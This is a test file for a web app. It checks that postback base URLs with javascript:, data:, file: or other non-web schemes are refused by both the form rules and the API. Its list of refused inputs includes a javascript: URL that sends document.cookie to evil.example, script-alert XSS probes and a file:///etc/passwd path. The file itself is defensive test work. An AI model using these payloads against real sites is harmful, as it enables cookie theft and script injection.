// A postback base url is a web address: javascript:, data: and file: are refused with the same
// message by the form's rules and by the embedded API, which then stores nothing.
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { call, setErrorToast } from '../../src/providers/http';
import { validateRecord } from '../../src/model/rules';
import postbackSchema, { BASE_URL_NOT_WEB } from '../../src/schemas/postback';
import { ADMIN_EMAIL, loginAs } from './helpers';

const postback = {
  event_type: ['search_pv'],
  return_options: [{ parameter: '{event_type}', name: 'evt' }],
};
const NOT_WEB = [
  'javascript:fetch("https://evil.example/"+document.cookie)//x.example',
  'JavaScript:alert(1)//a.b',
  ' javascript:alert(1)//a.b',
  'data:text/html,<script>alert(1)</script>.x',
  'file:///etc/passwd.txt',
  'ftp://files.example/pb',
  'https:evil.example',
];

describe('postback base url', () => {
  it('has a clear message', () => {
    expect(BASE_URL_NOT_WEB).toBe('Base url must start with http:// or https://');
  });

  it.each(NOT_WEB)('the form rules refuse %s', (base_url) => {
    expect(validateRecord(postbackSchema, { ...postback, base_url }, 'create')).toBe(BASE_URL_NOT_WEB);
  });

  it('accepts http and https addresses', () => {
    for (const base_url of ['https://t.example/pb', 'HTTP://t.example/pb', ' https://t.example/pb ']) {
      expect(validateRecord(postbackSchema, { ...postback, base_url }, 'create')).toBeUndefined();
    }
  });

  describe('the embedded API', () => {
    beforeEach(async () => {
      setErrorToast(vi.fn());
      await loginAs(ADMIN_EMAIL);
    });
    const total = async () =>
      (
        await call<{ total: number }>({
          path: '/ssp_publisher/postback/list',
          query: { page_index: 1, page_size: 50 },
        })
      ).data?.total;

    it.each(NOT_WEB)('refuses to create %s and stores nothing', async (base_url) => {
      const before = await total();
      await expect(
        call({
          method: 'POST',
          path: '/ssp_publisher/postback',
          body: { ...postback, base_url },
          silent: true,
        }),
      ).rejects.toMatchObject({ message: BASE_URL_NOT_WEB });
      expect(await total()).toBe(before);
    });

    it('refuses to change an existing postback to javascript: and keeps the old address', async () => {
      await expect(
        call({
          method: 'PUT',
          path: '/ssp_publisher/postback/3101',
          body: { ...postback, base_url: 'javascript:alert(1)//x.example' },
          silent: true,
        }),
      ).rejects.toMatchObject({ message: BASE_URL_NOT_WEB });
      const list = await call<{ list: { postback_id: number; base_url: string }[] }>({
        path: '/ssp_publisher/postback/list',
        query: { page_index: 1, page_size: 50 },
      });
      expect(list.data?.list.find((row) => row.postback_id === 3101)?.base_url).toBe(
        'https://tracker.example/pb',
      );
    });
  });
});
